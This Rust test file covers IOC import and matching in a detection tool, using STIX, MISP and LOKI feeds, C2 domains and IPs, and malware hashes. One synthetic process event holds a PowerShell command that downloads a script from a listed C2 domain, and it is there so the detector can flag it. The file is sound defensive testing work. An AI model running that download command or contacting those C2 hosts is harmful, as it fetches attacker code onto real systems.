//! IOC import and matching on real feeds: OASIS's STIX 2.1 examples and PyMISP's test
//! events (testdata/ioc, see SOURCES.md), and signature-base's LOKI lists read from the
//! shared corpus (`$RIPOSTE_CORPUS`, DRL 1.1).
//!
//! Expected counts were computed from the files with Python (json, re), independently of
//! this code: per STIX file the indicators and their `=` comparisons by object path, per
//! MISP event the attributes (events and objects) by type and `to_ids`, per LOKI list the
//! non-comment lines by hash length or IPv4/domain shape.

use riposte_detect::StreamDetector;
use riposte_detect::ioc::{
    Import, IocDetector, IocDetectorConfig, IocImporter, IocKind, IocSet, MispImporter, importer,
};
use riposte_model::{
    Action, Event, EventOrigin, EvidenceId, EvidenceItem, InvestigationId, Provenance, Severity,
};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::sync::Arc;

fn testdata(name: &str) -> Vec<u8> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("testdata/ioc")
        .join(name);
    std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

fn corpus() -> PathBuf {
    let dir = std::env::var_os("RIPOSTE_CORPUS")
        .map(PathBuf::from)
        .unwrap_or_else(|| {
            PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpus")
        });
    assert!(
        dir.join("iocs").is_dir(),
        "test corpus not found at {}: set RIPOSTE_CORPUS to the shared corpus directory",
        dir.display()
    );
    dir
}

fn kinds(import: &Import) -> BTreeMap<IocKind, usize> {
    let mut out = BTreeMap::new();
    for i in &import.indicators {
        *out.entry(i.kind).or_default() += 1;
    }
    out
}

#[test]
fn stix_poison_ivy_report_ors_and_one_invalid_domain() {
    let import = importer("stix")
        .unwrap()
        .import(&testdata("stix/poisonivy.json"), "poisonivy.json")
        .unwrap();
    // 25 indicators, 67 comparisons: 40 ipv4-addr, 25 domain-name, 2 file:name; one domain
    // value is "domain autuo.xicp.net" (a space: not a domain name).
    assert_eq!(
        kinds(&import),
        BTreeMap::from([
            (IocKind::Ip, 40),
            (IocKind::Domain, 24),
            (IocKind::FileName, 2)
        ])
    );
    assert_eq!(import.rejected.len(), 1);
    assert!(
        import.rejected[0].place.starts_with("indicator--"),
        "{:?}",
        import.rejected
    );
    assert!(import.rejected[0].reason.contains("domain autuo.xicp.net"));
    let set = IocSet::new(import.indicators);
    assert!(!set.match_domain("www.webserver.dynssl.com").is_empty());
    assert!(!set.match_text("ping -n 1 x.js001.3322.org").is_empty());
}

#[test]
fn stix_apt1_report_cidrs_hashes_and_unsupported_and() {
    let import = importer("stix")
        .unwrap()
        .import(&testdata("stix/apt1.json"), "apt1.json")
        .unwrap();
    // 12 indicators: 4 ipv4 CIDRs, 3 domains, 3 MD5s; 2 x509 patterns with AND.
    assert_eq!(
        kinds(&import),
        BTreeMap::from([(IocKind::Md5, 3), (IocKind::Ip, 4), (IocKind::Domain, 3)])
    );
    assert_eq!(import.rejected.len(), 2);
    assert!(
        import
            .rejected
            .iter()
            .all(|r| r.reason.contains("x509-certificate")),
        "{:?}",
        import.rejected
    );
    let set = IocSet::new(import.indicators);
    // 223.166.0.0/15 covers 223.166.0.0–223.167.255.255.
    assert_eq!(set.match_ip("223.167.200.1".parse().unwrap()).len(), 1);
    assert!(set.match_ip("223.168.0.1".parse().unwrap()).is_empty());
    assert_eq!(set.match_hash("001DD76872D80801692FF942308C64E6").len(), 1);

    let coa = importer("stix")
        .unwrap()
        .import(&testdata("stix/indicators-for-C2-with-COA.json"), "coa")
        .unwrap();
    assert_eq!(
        kinds(&coa),
        BTreeMap::from([(IocKind::Sha256, 1), (IocKind::Ip, 1)])
    );
}

#[test]
fn misp_events_honour_to_ids_and_read_objects() {
    let data = testdata("misp/long_event.json");
    let only = importer("misp")
        .unwrap()
        .import(&data, "long_event.json")
        .unwrap();
    // to_ids attributes of supported types: 254 attributes giving 342 indicators
    // (filename|md5 and filename|sha256 give two each); 116 others rejected.
    assert_eq!(only.indicators.len(), 342);
    assert_eq!(only.rejected.len(), 116);
    assert_eq!(
        only.indicators[0].severity,
        Some(Severity::Medium),
        "threat_level_id 2"
    );
    let all = MispImporter { only_to_ids: false }
        .import(&data, "long_event.json")
        .unwrap();
    assert_eq!(all.indicators.len(), 379);
    assert_eq!(all.rejected.len(), 83);
    assert!(all.rejected.iter().any(|r| r.reason.contains("`link`")));

    let objects = importer("misp")
        .unwrap()
        .import(&testdata("misp/to_delete2.json"), "to_delete2.json")
        .unwrap();
    // 90 ip-dst (3 of them in objects) and 3 ip-dst|port, 16 MD5, 2 SHA-256, 2 SHA-1,
    // 2 file names; 13 rejected (link, comment, attachment, ssdeep, …).
    assert_eq!(
        kinds(&objects),
        BTreeMap::from([
            (IocKind::Sha256, 2),
            (IocKind::Sha1, 2),
            (IocKind::Md5, 16),
            (IocKind::Ip, 93),
            (IocKind::FileName, 2),
        ])
    );
    assert_eq!(objects.rejected.len(), 13);
    assert!(
        objects
            .indicators
            .iter()
            .all(|i| i.severity == Some(Severity::Low))
    );
}

#[test]
fn signature_base_loki_lists() {
    let dir = corpus().join("iocs/signature-base/iocs");
    let read = |name: &str| std::fs::read(dir.join(name)).unwrap();
    let hashes = importer("loki-hash")
        .unwrap()
        .import(&read("hash-iocs.txt"), "signature-base hash-iocs")
        .unwrap();
    assert_eq!(
        kinds(&hashes),
        BTreeMap::from([
            (IocKind::Sha256, 1259),
            (IocKind::Sha1, 926),
            (IocKind::Md5, 1039)
        ])
    );
    assert!(
        hashes.rejected.is_empty(),
        "{:?}",
        &hashes.rejected[..hashes.rejected.len().min(5)]
    );
    let c2 = importer("loki-c2")
        .unwrap()
        .import(&read("c2-iocs.txt"), "signature-base c2-iocs")
        .unwrap();
    assert_eq!(
        kinds(&c2),
        BTreeMap::from([(IocKind::Ip, 135), (IocKind::Domain, 1709)])
    );
    assert!(
        c2.rejected.is_empty(),
        "{:?}",
        &c2.rejected[..c2.rejected.len().min(5)]
    );
    let snowman = c2
        .indicators
        .iter()
        .find(|i| i.value == "suroot.com")
        .unwrap();
    assert_eq!(
        snowman.description,
        "FireEye Operation Snowman https://goo.gl/x1v7mT"
    );
}

fn event(action: Action, attrs: &[(&str, &str)]) -> Event {
    let origin = EventOrigin {
        parser: "test".into(),
        path: "/test".into(),
        record: None,
    };
    attrs.iter().fold(
        Event::new(None, "h1", action, "test event", origin),
        |e, (k, v)| e.with(k, *v),
    )
}

#[test]
fn detector_names_the_indicator_its_source_and_the_events() {
    let dir = corpus().join("iocs/signature-base/iocs");
    let c2 = importer("loki-c2")
        .unwrap()
        .import(
            &std::fs::read(dir.join("c2-iocs.txt")).unwrap(),
            "signature-base c2",
        )
        .unwrap();
    let stix = importer("stix")
        .unwrap()
        .import(&testdata("stix/apt1.json"), "apt1.json")
        .unwrap();
    let set = IocSet::new(c2.indicators.into_iter().chain(stix.indicators).collect());
    let detector = IocDetector::new(Arc::new(set), IocDetectorConfig::default());
    let events = vec![
        event(
            Action::ProcessRun,
            &[("cmd", "powershell iwr http://cht.blankchair.com/a.ps1")],
        ),
        event(Action::NetworkOutgoing, &[("remote_ip", "58.64.143.244")]),
        event(Action::ProcessRun, &[("cmd", "notblankchair.com is fine")]),
        event(Action::NetworkOutgoing, &[("remote_ip", "223.166.10.20")]),
        event(
            Action::ProcessRun,
            &[(
                "process_hash",
                "SHA1=AA,MD5=001DD76872D80801692FF942308C64E6",
            )],
        ),
        event(
            Action::NetworkOutgoing,
            &[("remote_host", "x.CHT.blankchair.com")],
        ),
    ];
    let alarms = detector.detect(&events);
    let summary: Vec<_> = alarms
        .iter()
        .map(|a| (a.title.as_str(), a.event_refs.clone()))
        .collect();
    assert_eq!(summary.len(), 4, "{summary:#?}");
    let find = |needle: &str| {
        alarms
            .iter()
            .find(|a| a.title.contains(needle))
            .unwrap_or_else(|| panic!("{needle}: {summary:#?}"))
    };
    let domain = find("cht.blankchair.com");
    assert_eq!(domain.event_refs, vec![0, 5]);
    assert!(domain.title.contains("signature-base c2"));
    assert!(
        domain.description.contains("cmd, remote_host"),
        "{}",
        domain.description
    );
    assert_eq!(find("58.64.143.244").event_refs, vec![1]);
    assert_eq!(find("223.166.0.0/15").event_refs, vec![3]);
    let md5 = find("001dd76872d80801692ff942308c64e6");
    assert_eq!(md5.event_refs, vec![4]);
    assert_eq!(md5.severity, Severity::High, "default severity");
    assert!(alarms.iter().all(|a| a.detector == "ioc"));
}

#[test]
fn collected_files_match_by_hash_and_windows_path() {
    // The EICAR file's SHA-256 as signature-base's SUSP_Just_EICAR rule documents it.
    let eicar = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f";
    let csv = format!(
        "type,value,description,severity\nsha256,{eicar},EICAR test file,low\nfile_path,C:\\Users\\Public\\evil.exe,dropper,\n"
    );
    let import = importer("csv")
        .unwrap()
        .import(csv.as_bytes(), "analyst.csv")
        .unwrap();
    assert!(import.rejected.is_empty(), "{:?}", import.rejected);
    let detector = IocDetector::new(
        Arc::new(IocSet::new(import.indicators)),
        IocDetectorConfig::default(),
    );
    let item = |path: &str, sha256: &str| EvidenceItem {
        id: EvidenceId::new(),
        investigation_id: InvestigationId::new(),
        sha256: sha256.to_string(),
        size: 68,
        provenance: Provenance {
            host: "ws1".into(),
            original_path: path.into(),
            ..Provenance::default()
        },
        storage_key: "k".into(),
        collected_at: chrono::Utc::now(),
    };
    let files = [
        item("/tmp/eicar.com", eicar),
        item("c:/users/PUBLIC/Evil.EXE", &"0".repeat(64)),
        item("/home/u/clean.txt", &"1".repeat(64)),
    ];
    let alarms = detector.detect_files(&files);
    assert_eq!(alarms.len(), 2);
    assert_eq!(alarms[0].severity, Severity::Low);
    assert!(alarms[0].description.contains("/tmp/eicar.com"));
    assert!(alarms[1].description.contains("c:/users/PUBLIC/Evil.EXE"));
}

#[test]
fn malformed_documents_are_errors_naming_the_source() {
    for format in ["stix", "misp"] {
        let err = importer(format)
            .unwrap()
            .import(b"{not json", "feed.json")
            .unwrap_err()
            .to_string();
        assert!(err.contains("feed.json") && err.contains("line 1"), "{err}");
    }
    assert!(importer("misp").unwrap().import(b"42", "n.json").is_err());
    assert!(importer("yaml").is_err());
}
